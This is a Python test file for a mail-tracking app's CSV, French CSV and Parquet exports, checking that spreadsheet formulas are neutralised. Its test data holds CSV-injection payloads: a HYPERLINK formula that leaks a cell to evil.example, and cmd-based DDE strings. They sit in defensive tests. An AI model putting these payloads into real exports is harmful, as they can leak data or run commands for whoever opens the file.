"""CSV exports cannot carry spreadsheet formulas (OWASP CSV injection), including diagnostics
that arrive by mail; every other cell reads the same."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest

from tests.actors import support
from tracking.config import load_settings
from tracking.export import frame_to_csv, neutralise_cell
from tracking.inbound.maildir import MaildirMailbox
from tracking.ingest import IngestPolicy, ingest_available
from tracking.models import SendingMode
from tracking.returned_actions import apply_proposal
from tracking.service import SendRequest, request_send
from tracking.store import console_queries as q
from tracking.store import proposals


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
     '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'),
    ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("FV 2026/11/0042", "FV 2026/11/0042"),
    ("a=b", "a=b"),
    ("", ""),
    (-12.5, -12.5),       # a number is a number, not a formula
    (None, None),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_frame_to_csv_changes_only_the_dangerous_cells():
    frame = pd.DataFrame({
        "document_number": ["=HYPERLINK(\"http://x\")", "FV 1"],
        "client": ["@Client", "Dupont & Fils, SARL"],
        "amount": [-120.5, 30],
        "note": [None, "-"],
    })
    rows = _read(frame_to_csv(frame))
    assert rows == [["document_number", "client", "amount", "note"],
                    ["'=HYPERLINK(\"http://x\")", "'@Client", "-120.5", ""],
                    ["FV 1", "Dupont & Fils, SARL", "30.0", "'-"]]
    assert frame.loc[0, "client"] == "@Client"          # the caller's frame is untouched


def test_a_diagnostic_from_mail_is_neutralised_in_the_failures_export(db, seeded, policy, tmp_path):
    now = datetime.now(UTC).replace(microsecond=0)
    receipt = request_send(db, SendRequest(seeded[SendingMode.RELAY][0], ("victim@client.test",),
                                           actor=support("sam")), policy, now=now)
    diagnostic = '=HYPERLINK("http://evil.example/","Voir")'
    dsn = (
        "From: MAILER-DAEMON@mx.client.test\r\nTo: bounces@suivi.test\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
        "--b\r\nContent-Type: message/delivery-status\r\n\r\n"
        f"Reporting-MTA: dns; mx.client.test\r\nOriginal-Envelope-Id: {receipt.send_id}\r\n\r\n"
        "Final-Recipient: rfc822; victim@client.test\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        f"Diagnostic-Code: smtp; {diagnostic}\r\n\r\n--b--\r\n")
    maildir = tmp_path / "mail"
    for sub in ("new", "cur", "tmp"):
        (maildir / sub).mkdir(parents=True)
    (maildir / "new" / "1.dsn.host").write_bytes(dsn.encode())
    settings = load_settings({"SUIVI_VERP_KEY": "test-verp-key"})
    assert ingest_available(db, MaildirMailbox(maildir),
                            IngestPolicy.from_settings(settings)).by_state == {"proposed": 1}
    # Tied by ENVID only: a proposal until support applies it (issue 9), then it counts.
    [proposal] = proposals.open_queue(db.cursor())["id"].tolist()
    apply_proposal(db, proposal, support("sam"))
    failed = q.failing_deliveries(db.cursor(), now - timedelta(days=1), now + timedelta(days=1))
    assert failed["diagnostic"].tolist() == [diagnostic]      # stored as it came
    header, row = _read(frame_to_csv(failed))
    cells = dict(zip(header, row))
    assert cells["diagnostic"] == "'" + diagnostic
    assert cells["recipient"] == "victim@client.test" and cells["reason"] == "userunknown"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


# --- the analyst's French CSV and Parquet -------------------------------------------------------

def _failed_rows() -> pd.DataFrame:
    return pd.DataFrame({
        "requested_at": pd.to_datetime(["2026-07-01 12:30", "2026-01-15 08:05"]),
        "document_number": ['=HYPERLINK("http://x")', "FV 2026/01/0001"],
        "document_id": ["d1", "d2"],
        "account": ["Atelier; Dubois", "Nord"],
        "time_zone": ["Europe/Paris", "America/New_York"],
        "mode": ["relay", None],
        "recipient": ["a@x.test", "b@y.test"],
        "state": ["not_delivered", "not_sent"],
        "state_at": pd.to_datetime(["2026-07-01 12:31", None]),
        "reason": ["mailboxfull", None],
        "status_code": ["5.2.2", None],
        "smtp_reply": [None, "-554 refused"],
        "diagnostic": ["552 5.2.2 full", None],
        "remote_mta": ["mx.x.test", None],
    })


def _read_french(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_the_french_csv_has_a_bom_semicolons_french_headers_labels_and_codes_apart():
    from tracking.export import FAILURE_COLUMNS, frame_to_french_csv

    data = frame_to_french_csv(_failed_rows(), FAILURE_COLUMNS)
    assert data.startswith("\ufeff".encode("utf-8"))             # Excel reads it as UTF-8
    header, summer, winter = _read_french(data)
    assert header == ["Envoi demandé le", "Document", "Compte", "Mode d'envoi", "Code mode",
                      "Destinataire", "État", "Code état", "État depuis le", "Raison",
                      "Code raison", "Code d'état SMTP étendu", "Réponse SMTP",
                      "Diagnostic du serveur distant", "Serveur distant"]
    row = dict(zip(header, summer))
    assert row["Envoi demandé le"] == "01/07/2026 14:30 CEST"   # local time, with its zone
    assert row["État"] == "Non réceptionné" and row["Code état"] == "not_delivered"
    assert row["Raison"] == "Boîte pleine" and row["Code raison"] == "mailboxfull"
    assert row["Mode d'envoi"] == "Relais Suivi" and row["Code mode"] == "relay"
    assert row["Document"] == "'=HYPERLINK(\"http://x\")"         # still neutralised
    assert row["Compte"] == "Atelier; Dubois"                    # quoted, not split
    row = dict(zip(header, winter))
    assert row["Envoi demandé le"] == "15/01/2026 03:05 EST"
    assert row["État depuis le"] == "" and row["Raison"] == "" and row["Code raison"] == ""
    assert row["Mode d'envoi"] == "Non renseigné" and row["Code mode"] == ""
    assert row["Réponse SMTP"] == "'-554 refused"
    assert not any(cell in ("None", "nan", "NaT") for cell in winter + summer)


def test_the_french_history_csv_names_the_system_in_words():
    from tracking.export import HISTORY_COLUMNS, frame_to_french_csv

    events = pd.DataFrame({
        "occurred_at": [pd.Timestamp("2026-07-01 12:30"), pd.Timestamp("2026-07-01 12:31")],
        "time_zone": ["Europe/Paris", "Europe/Paris"],
        "type": ["recipient_accepted", "send_requested"],
        "actor": ["system", "m.lefevre"], "actor_name": ["system", "Marie Lefèvre"]})
    header, worker, person = _read_french(frame_to_french_csv(events, HISTORY_COLUMNS))
    assert dict(zip(header, worker))["Acteur"] == "Système (envoi automatique)"
    assert dict(zip(header, worker))["Identifiant"] == "system"        # the code, apart
    assert dict(zip(header, person))["Acteur"] == "Marie Lefèvre"


def test_parquet_keeps_the_stored_values_and_types():
    from tracking.export import frame_to_parquet

    frame = _failed_rows()
    back = pd.read_parquet(io.BytesIO(frame_to_parquet(frame)))
    assert list(back.columns) == list(frame.columns)
    assert back["requested_at"].dt.tz is not None                   # UTC, and marked so
    assert back["requested_at"].dt.tz_convert(None).tolist() == frame["requested_at"].tolist()
    assert back["document_number"].tolist() == frame["document_number"].tolist()  # exact
    assert back["reason"].tolist()[0] == "mailboxfull" and pd.isna(back["reason"].tolist()[1])
